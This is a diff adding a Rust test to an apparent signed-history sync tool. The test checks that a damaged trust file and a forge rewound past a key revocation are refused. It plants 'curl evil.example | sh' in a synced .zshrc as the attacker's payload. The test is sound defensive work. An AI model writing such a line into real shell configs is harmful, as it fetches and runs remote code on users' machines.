@@ -635,3 +635,61 @@ fn a_machine_set_up_before_signed_history_is_refused_with_a_way_forward() {
     let text = String::from_utf8_lossy(&doctor.stdout);
     assert!(text.contains("start a new fleet"), "{text}");
 }
+
+#[test]
+fn a_damaged_trust_state_fails_closed_and_lets_no_rewind_past_a_revoke_through() {
+    let f = fleet();
+    let url = f.forge.url();
+    let carol = Machine::new();
+    enroll(&f.alpha, &carol, "carol", &url);
+    f.beta.ok(&["sync"]);
+    let before_revoke = git_out(&f.alpha.repo(), &["rev-parse", "HEAD"]);
+    f.alpha.ok(&["revoke", "carol"]);
+    f.beta.ok(&["sync"]);
+    // beta's trust state is damaged (a torn write, a bad disk): it is what remembers the
+    // revoked key and the last verified forge tip.
+    let state = f.beta.state().join("trust.json");
+    let saved = std::fs::read(&state).unwrap();
+    std::fs::write(&state, &saved[..saved.len() / 2]).unwrap();
+    // The forge is rewound to before the revoke, and carol signs a change on top of it.
+    let clone = attacker_clone(&f);
+    run_program(Command::new("git").arg("-C").arg(&clone).args([
+        "reset",
+        "--quiet",
+        "--hard",
+        &before_revoke,
+    ]));
+    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
+    git_commit(
+        &clone,
+        &signing_config(&carol),
+        "carol",
+        "carol: sync ~/.zshrc",
+    );
+    git_push(&clone, "+HEAD:main");
+    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
+    // beta does not start afresh (which would take carol's commit as authentic): it stops,
+    // naming the file and what to do, and applies nothing.
+    let before = honest_state(&f.beta);
+    let err = f.beta.fails(&["sync"], 1);
+    assert!(
+        err.contains(&state.display().to_string()) && err.contains("damaged"),
+        "{err}"
+    );
+    assert!(
+        err.contains("fleetkey verify"),
+        "the hint says what to do: {err}"
+    );
+    assert_eq!(before, honest_state(&f.beta));
+    assert_eq!(
+        std::fs::read(&state).unwrap(),
+        &saved[..saved.len() / 2],
+        "the damaged state is left for the user, not overwritten"
+    );
+    assert_ne!(git_out(&f.beta.repo(), &["rev-parse", "HEAD"]), bad);
+    // With its state restored, beta refuses the rewind as such.
+    std::fs::write(&state, &saved).unwrap();
+    let out = f.beta.run(&["sync"]);
+    assert_eq!(out.status.code(), Some(3), "{out:?}");
+    assert_eq!(before, honest_state(&f.beta));
+}
